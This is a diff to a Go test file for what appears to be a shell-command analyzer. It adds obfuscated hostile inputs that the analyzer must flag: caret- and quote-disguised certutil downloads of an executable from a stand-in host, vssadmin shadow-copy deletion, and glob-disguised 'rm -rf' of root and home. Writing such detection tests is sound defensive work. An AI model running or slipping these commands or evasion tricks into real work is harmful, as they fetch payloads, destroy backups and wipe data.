@@ -35,6 +35,12 @@ func TestAnalyzeSpelledNames(t *testing.T) {
 		{`c^ertutil -urlcache -split -f https://x.io/a.exe a.exe`, IDDownloadLolbin},
 		{`cmd /c c""ertutil.exe -urlcache -f https://x.io/a.exe a.exe`, IDDownloadLolbin},
 		{`v^ss^admin delete shadows /all /quiet`, IDDeleteBackups},
+		{`v"s"sadmin delete shadows /all /quiet`, IDDeleteBackups},
+		{`cmd /c "c^ertutil -urlcache -split -f https://x.io/a.exe a.exe"`, IDDownloadLolbin},
+		// a glob for a name runs whatever it matches
+		{"/bin/r? -rf /", IDRmRoot},
+		{"/usr/bin/su?o /bin/r* -rf ~", IDRmHome},
+		{"[ -f x ] && echo ok", ""},
 		{`c^ertutil -hashfile a.exe`, ""},
 		// rpcping authenticating with NTLM hands the server a hash
 		{`rpcping -s 127.0.0.1 -e 1234 -a privacy -u NTLM 1>$Null`, IDNTLMLeak},
@@ -103,6 +109,7 @@ func TestWinPlainNames(t *testing.T) {
 	tests := []struct{ in, want string }{
 		{`c^ertutil -f x`, `certutil -f x`},
 		{`a & c""ertutil.exe x`, `a & certutil.exe x`},
+		{`cmd /c "c^ertutil x"`, `cmd /c certutil x"`},
 		{`type c:\windows\system32\drivers\etc\hosts`, ""}, // paths stay as they are
 		{`echo ^hello`, ""},
 		{`certutil -f x`, ""},
